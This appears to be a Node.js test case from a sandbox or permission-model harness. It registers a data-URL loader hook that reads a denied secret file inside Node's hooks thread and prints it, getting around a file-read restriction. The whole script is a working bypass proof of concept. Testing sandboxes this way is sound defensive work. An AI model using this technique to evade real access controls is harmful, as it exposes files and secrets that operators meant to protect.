// Hooks given to `module.register` run in a thread of Node's own, and read the file there.
// denied: file:read secret.txt
// nodes: >=20
const lab = JSON.parse(process.argv[2]);
const { register } = require('node:module');
register(`data:text/javascript,${encodeURIComponent(`import { readFileSync, writeSync } from 'node:fs'; try { writeSync(1, readFileSync(${JSON.stringify(lab.secret)}, 'utf8')); } catch {} export async function load(url, context, next) { return next(url, context); }`)}`);
import('node:url');
